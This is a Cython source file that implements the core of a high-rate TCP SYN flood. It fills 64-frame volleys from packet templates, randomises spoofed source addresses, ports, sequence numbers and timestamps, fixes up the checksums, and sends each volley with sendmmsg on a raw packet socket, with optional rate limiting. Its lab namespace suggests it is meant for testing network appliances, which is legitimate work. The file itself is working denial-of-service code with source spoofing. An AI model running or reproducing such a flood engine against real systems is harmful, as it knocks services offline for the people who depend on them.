"""The flood's inner loop: a volley of SYN frames, renewed in place and sent in one call.

Each slot of the volley holds a frame made from a template.  Before each transmission every slot
gets a new source address, source port, ISN and TSval, and the checksums that go with them:
the template's own sum, taken once with those fields at zero, plus the new words.

One sendmmsg(2) on a packet socket sends the whole volley.

Reading list: RFC 1071 §2, packet(7), sendmmsg(2).
"""

from libc.errno cimport EAGAIN, EINTR, ENOBUFS, errno
from libc.stdint cimport uint8_t, uint16_t, uint32_t, uint64_t
from libc.string cimport memcpy, memset
from posix.time cimport CLOCK_MONOTONIC, clock_gettime, nanosleep, timespec

cdef extern from "<sys/socket.h>" nogil:
    cdef struct iovec:
        void *iov_base
        size_t iov_len
    cdef struct msghdr:
        iovec *msg_iov
        size_t msg_iovlen
    cdef struct mmsghdr:
        msghdr msg_hdr
        unsigned int msg_len
    int sendmmsg(int fd, mmsghdr *messages, unsigned int count, int flags)

cdef enum:
    VOLLEY_FRAMES = 64      # one sendmmsg
    FRAME_BYTES_MAX = 128   # Ethernet, IPv6, TCP and 40 bytes of options are 114
    NS_PER_S = 1_000_000_000


# Where a frame's changing fields lie, as offsets from its first byte; all are even.
cdef struct Slot:
    uint8_t frame[FRAME_BYTES_MAX]
    uint16_t length_bytes
    uint16_t ip_checksum        # 0 in IPv6, which has none
    uint16_t source             # the last 32 bits of the source address
    uint16_t tcp                # the TCP header
    uint16_t tsval              # 0 where the template has no timestamps
    uint32_t source_base        # those 32 bits: fixed part ...
    uint32_t source_mask        # ... and which of them vary
    uint32_t ip_sum             # of the header, with source and checksum at 0
    uint32_t tcp_sum            # of pseudo-header and header, with what varies at 0


cdef inline uint64_t now_ns() noexcept nogil:
    cdef timespec now
    clock_gettime(CLOCK_MONOTONIC, &now)
    return <uint64_t>now.tv_sec * NS_PER_S + <uint64_t>now.tv_nsec


# splitmix64 (Steele, Lea, Flood 2014): one word of state, and any seed will do.
cdef inline uint64_t draw(uint64_t *state) noexcept nogil:
    state[0] += 0x9E3779B97F4A7C15ULL
    cdef uint64_t z = state[0]
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL
    return z ^ (z >> 31)


cdef inline void put16(uint8_t *at, uint32_t value) noexcept nogil:
    at[0] = <uint8_t>(value >> 8)
    at[1] = <uint8_t>value


# Writes 32 bits and returns what they add to a checksum.
cdef inline uint32_t put32(uint8_t *at, uint32_t value) noexcept nogil:
    put16(at, value >> 16)
    put16(at + 2, value)
    return (value >> 16) + (value & 0xFFFF)


cdef inline uint32_t fold(uint32_t sum) noexcept nogil:
    sum = (sum & 0xFFFF) + (sum >> 16)
    sum = (sum & 0xFFFF) + (sum >> 16)
    return ~sum & 0xFFFF


cdef void slot_renew(Slot *slot, uint64_t *state) noexcept nogil:
    cdef uint64_t address_and_isn = draw(state)
    cdef uint64_t port_and_tsval = draw(state)
    cdef uint32_t source = slot.source_base | (
        <uint32_t>(address_and_isn >> 32) & slot.source_mask)
    # Ephemeral ports (RFC 6335 §6): 49152..65535.
    cdef uint32_t sport = 0xC000 | (<uint32_t>(port_and_tsval >> 32) & 0x3FFF)
    cdef uint32_t source_sum = put32(slot.frame + slot.source, source)
    cdef uint32_t sum = slot.tcp_sum + source_sum + sport
    put16(slot.frame + slot.tcp, sport)
    sum += put32(slot.frame + slot.tcp + 4, <uint32_t>address_and_isn)
    if slot.tsval:
        sum += put32(slot.frame + slot.tsval, <uint32_t>port_and_tsval)
    put16(slot.frame + slot.tcp + 16, fold(sum))
    if slot.ip_checksum:
        put16(slot.frame + slot.ip_checksum, fold(slot.ip_sum + source_sum))


cdef class Volley:
    """A flood under way: its frames, its random state, its schedule and its score.

    `templates` are appliance.lab.syn.Template objects, at most 64, used in turn.
    """

    cdef Slot slots[VOLLEY_FRAMES]
    cdef iovec pieces[VOLLEY_FRAMES]
    cdef mmsghdr messages[VOLLEY_FRAMES]
    cdef uint64_t state
    cdef uint64_t started_ns    # 0 until the first volley
    cdef readonly uint64_t sent
    cdef readonly uint64_t refused      # frames that the interface did not take
    cdef readonly uint64_t drawn        # frames made: those after a refused one are made anew

    def __cinit__(self, templates, uint64_t seed):
        self.state = seed
        memset(self.messages, 0, sizeof(self.messages))
        for i in range(VOLLEY_FRAMES):
            self._load(&self.slots[i], templates[i % len(templates)])
            self.pieces[i].iov_base = self.slots[i].frame
            self.pieces[i].iov_len = self.slots[i].length_bytes
            self.messages[i].msg_hdr.msg_iov = &self.pieces[i]
            self.messages[i].msg_hdr.msg_iovlen = 1

    cdef int _load(self, Slot *slot, template) except -1:
        frame = bytes(template.frame)
        if len(frame) > FRAME_BYTES_MAX:
            raise ValueError(f"a template of {len(frame)} bytes; {FRAME_BYTES_MAX} fit")
        memcpy(slot.frame, <const uint8_t *>frame, len(frame))
        slot.length_bytes = len(frame)
        slot.ip_checksum = template.ip_checksum
        slot.source = template.source
        slot.tcp = template.tcp
        slot.tsval = template.tsval
        slot.source_base = template.source_base
        slot.source_mask = template.source_mask
        slot.ip_sum = template.ip_sum
        slot.tcp_sum = template.tcp_sum
        return 0

    def renew(self):
        """A new volley of frames, as a list of bytes: what `fire` would send next."""
        return [self._renewed(i) for i in range(VOLLEY_FRAMES)]

    cdef bytes _renewed(self, int i):
        slot_renew(&self.slots[i], &self.state)
        return self.slots[i].frame[:self.slots[i].length_bytes]

    def fire(self, int socket_fd, uint64_t count, uint64_t pps, uint64_t until_ns):
        """Send until `count` frames in all have gone out or CLOCK_MONOTONIC reads `until_ns`;
        `pps` 0 is as fast as it goes.  The schedule runs on from one call to the next.
        Raises OSError where the interface fails; full queues only count as refused."""
        cdef int error
        with nogil:
            error = self._fire(socket_fd, count, pps, until_ns)
        if error:
            raise OSError(error, "sendmmsg")

    cdef int _fire(self, int socket_fd, uint64_t count, uint64_t pps,
                   uint64_t until_ns) noexcept nogil:
        cdef uint64_t now = now_ns()
        cdef uint64_t burst
        cdef int taken
        cdef uint64_t i
        if not self.started_ns:
            self.started_ns = now
        while self.sent < count and now < until_ns:
            burst = self._due(now, pps)
            if burst:
                burst = min(burst, count - self.sent)
                for i in range(burst):
                    slot_renew(&self.slots[i], &self.state)
                self.drawn += burst
                taken = sendmmsg(socket_fd, self.messages, <unsigned int>burst, 0)
                if taken >= 0:
                    self.sent += taken
                elif errno == ENOBUFS or errno == EAGAIN:
                    self.refused += burst
                elif errno != EINTR:
                    return errno
            now = now_ns()
        return 0

    # How many frames to send now: a whole volley, or after a sleep what the rate then allows.
    cdef uint64_t _due(self, uint64_t now, uint64_t pps) noexcept nogil:
        if not pps:
            return VOLLEY_FRAMES
        # A thousandth of a second's worth a volley keeps slow floods even.
        cdef uint64_t volley = min(<uint64_t>VOLLEY_FRAMES, pps // 1000 + 1)
        cdef uint64_t gone = self.sent + self.refused
        cdef uint64_t wait_ns = <uint64_t>(<double>(gone + volley) * NS_PER_S / pps)
        cdef uint64_t passed_ns = now - self.started_ns
        cdef timespec pause
        if passed_ns >= wait_ns:
            return volley
        pause.tv_sec = 0
        pause.tv_nsec = <long>min(wait_ns - passed_ns, <uint64_t>NS_PER_S - 1)
        nanosleep(&pause, NULL)
        return 0
